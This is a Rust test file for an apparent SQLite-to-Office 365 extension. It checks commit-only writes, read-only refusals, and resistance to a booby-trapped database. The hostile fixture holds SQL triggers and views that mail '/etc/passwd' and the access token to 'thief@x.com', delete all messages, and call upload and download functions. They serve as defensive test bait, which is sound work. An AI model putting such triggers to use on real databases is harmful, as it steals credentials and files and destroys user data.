//! Writes from real hosts: nothing before COMMIT, everything once after it, and nothing at all from a file that
//! somebody else made.

use std::path::{Path, PathBuf};

use office365::demo::DELEGATED_TOKEN;

use crate::host::{
    PYTHON, PYTHONS, command, folder, library_text, odbc_driver, package, program, run,
};
use crate::support::server::Scripted;
use crate::support::willing::{requests, sent, willing};

/// What connects to the server.
fn connection(server: &Scripted) -> String {
    format!(
        "GraphUrl={};OAuthAccessToken={DELEGATED_TOKEN};InitiateOAuth=OFF",
        server.url()
    )
}

/// One check in every Python, each with a service of its own: what was printed, and what was sent.
#[track_caller]
fn everywhere(check: &str, expected: &str, mut sent_is: impl FnMut(&Scripted)) {
    for host in PYTHONS.into_iter().filter(|host| host.present()) {
        let server = willing();
        let finished = run(&mut host.check(check, &[&connection(&server)]));
        assert_eq!(
            finished.output(),
            expected,
            "{} {}",
            host.driver,
            host.sqlite
        );
        sent_is(&server);
    }
}

#[test]
fn nothing_is_sent_before_commit_and_everything_once_after_it() {
    everywhere(
        "commits",
        "'pending' | 4\n'done' | 4\n'done' | 4\n",
        |server| {
            assert_eq!(requests(server), 2, "one folder, one batch");
            let lines = sent(server);
            assert_eq!(lines[0], "POST /me/mailFolders");
            assert!(
                lines[1..]
                    .iter()
                    .all(|line| line.starts_with("PATCH /me/messages/"))
            );
            assert_eq!(lines.len(), 4);
        },
    );
}

#[test]
fn a_procedure_is_called_once_for_each_call() {
    everywhere(
        "calls",
        "'Success' | 'Success'\n'Success'\nMoveMail: DestinationId is missing. The parameters are: \
         MessageId (required), DestinationId (required), UserId\n",
        |server| assert_eq!(requests(server), 4),
    );
}

#[test]
fn a_connection_that_nobody_opened_for_writing_writes_nothing() {
    let refusal =
        "To allow writes: SELECT o365_connect('Readonly=false'), or --write on the command line";
    everywhere(
        "refuses",
        &format!(
            "the connection is read-only. {refusal}\nMoveMail: the connection is read-only. {refusal}\n"
        ),
        |server| assert_eq!(requests(server), 0),
    );
}

/// A database file full of traps: whoever uses it in good faith must not write to the tenant, call a
/// procedure, read a local file, or show a token.
fn hostile_file(name: &str) -> PathBuf {
    let file = folder(name).join("hostile.db");
    let _ = std::fs::remove_file(&file);
    let db = rusqlite_free_sqlite3(&file);
    assert!(db, "the file is made by Debian's sqlite3");
    file
}

/// Makes the file without the library, as an attacker would.
fn rusqlite_free_sqlite3(file: &Path) -> bool {
    let Some(shell) = program("sqlite3") else {
        return false;
    };
    let traps = "
        CREATE TABLE notes(x, y);
        CREATE TRIGGER t1 AFTER INSERT ON notes BEGIN
            INSERT INTO Messages(subject) VALUES ('stolen');
        END;
        CREATE TABLE calls(x);
        CREATE TRIGGER t2 AFTER INSERT ON calls BEGIN
            INSERT INTO SendMail(ToRecipients, LocalFile) VALUES ('thief@x.com', '/etc/passwd');
        END;
        CREATE TABLE functions(x);
        CREATE TRIGGER t3 AFTER INSERT ON functions BEGIN
            SELECT SendMail('thief@x.com', 'Hi', o365_connection());
        END;
        CREATE TABLE opens(x);
        CREATE TRIGGER t4 AFTER INSERT ON opens BEGIN
            SELECT o365_connect('Readonly=false');
        END;
        CREATE VIEW bait AS SELECT 1 AS x;
        CREATE TRIGGER t5 INSTEAD OF INSERT ON bait BEGIN
            DELETE FROM Messages;
        END;
        CREATE VIEW token AS SELECT o365_connection() AS x;
        CREATE VIEW caller AS SELECT UploadFile('root', 'x', 'eA==') AS x;
        CREATE VIEW reader AS SELECT DownloadFile('/a', '/tmp/x') AS x;";
    run(command(&shell).arg(file).arg(traps)).status.success()
}

const BAITS: [&str; 8] = [
    "INSERT INTO notes VALUES (1, 2)",
    "INSERT INTO calls VALUES (1)",
    "INSERT INTO functions VALUES (1)",
    "INSERT INTO opens VALUES (1)",
    "INSERT INTO bait VALUES (1)",
    "SELECT x FROM token",
    "SELECT x FROM caller",
    "SELECT x FROM reader",
];

#[test]
fn a_hostile_file_does_nothing_in_the_sqlite3_shell() {
    let Some(shell) = program("sqlite3") else {
        return;
    };
    let file = hostile_file("hostile-sqlite3");
    let server = willing();
    let connect = format!("SELECT o365_connect('{}') IS NOT NULL", connection(&server));
    for bait in BAITS {
        let load = format!(".load {}", library_text());
        let finished = run(command(&shell)
            .arg("-bail")
            .arg(&file)
            .args([&load, &connect, bait]));
        assert!(!finished.status.success(), "{bait}: {finished:#?}");
        let all = format!("{}{}", finished.stdout, finished.stderr);
        assert!(
            all.contains("unsafe use") || all.contains("read-only"),
            "{bait}: {all}"
        );
        assert!(!all.contains(DELEGATED_TOKEN), "{bait}: {all}");
    }
    assert_eq!(requests(&server), 0);
}

#[test]
fn a_hostile_file_does_nothing_in_our_own_shell() {
    if program("sqlite3").is_none() {
        return;
    }
    let file = hostile_file("hostile-own");
    let server = willing();
    for bait in BAITS {
        let mut own = command(Path::new(env!("CARGO_BIN_EXE_office365")));
        let finished = run(own
            .args(["--connection", &connection(&server), "--db"])
            .arg(&file)
            .arg(bait));
        assert!(!finished.status.success(), "{bait}: {finished:#?}");
        let all = format!("{}{}", finished.stdout, finished.stderr);
        assert!(
            all.contains("unsafe use") || all.contains("read-only"),
            "{bait}: {all}"
        );
        assert!(!all.contains(DELEGATED_TOKEN), "{bait}: {all}");
    }
    assert_eq!(requests(&server), 0);
}

/// ODBC has no way to connect but the environment.
#[test]
fn odbc_commits_what_it_was_allowed_to_write() {
    let Some(isql) = program("isql").filter(|_| odbc_driver()) else {
        return;
    };
    let server = willing();
    let source = format!(
        "Driver=SQLite3;Database=:memory:;LoadExt={}",
        library_text()
    );
    let mut host = command(&isql);
    host.env("HOME", folder("odbc-writes"))
        .env(
            "OFFICE365_CONNECTION",
            format!("{};Readonly=false", connection(&server)),
        )
        .args(["-v", "-b", "-d|", "-k", &source]);
    let lines = "INSERT INTO MailFolders(displayName) VALUES ('by ODBC')\n\
                 SELECT state FROM o365_writes\n";
    let finished = crate::host::run_with_input(&mut host, lines);
    assert!(finished.stdout.contains("done"), "{finished:#?}");
    assert_eq!(sent(&server), ["POST /me/mailFolders"]);
}

/// pyodbc begins a transaction by itself, as the DB-API wants it: nothing before commit(), everything once
/// after it, and nothing after rollback().
#[test]
fn pyodbc_sends_at_commit_alone() {
    let Some(folder_of_module) = package("pyodbc-5.2.0").filter(|_| odbc_driver()) else {
        return;
    };
    let script = "import pyodbc, sys\n\
        c = pyodbc.connect('Driver=SQLite3;Database=:memory:;LoadExt=' + sys.argv[1])\n\
        def states(): print(c.execute('SELECT group_concat(state) FROM o365_writes').fetchone()[0])\n\
        c.execute(\"INSERT INTO MailFolders(displayName) VALUES ('a')\")\n\
        c.execute(\"INSERT INTO MailFolders(displayName) VALUES ('b')\")\n\
        states()\n\
        c.commit()\n\
        states()\n\
        c.execute(\"INSERT INTO MailFolders(displayName) VALUES ('never')\")\n\
        c.rollback()\n\
        c.commit()\n\
        states()\n";
    let server = willing();
    let mut host = command(Path::new(PYTHON));
    host.env("HOME", folder("pyodbc"))
        .env("PYTHONPATH", &folder_of_module)
        .env(
            "OFFICE365_CONNECTION",
            format!("{};Readonly=false", connection(&server)),
        )
        .args(["-c", script, &library_text()]);
    let finished = run(&mut host);
    assert_eq!(finished.output(), "pending,pending\ndone,done\ndone,done\n");
    assert_eq!(requests(&server), 1, "one batch");
    assert_eq!(
        sent(&server),
        ["POST /me/mailFolders", "POST /me/mailFolders"]
    );
}
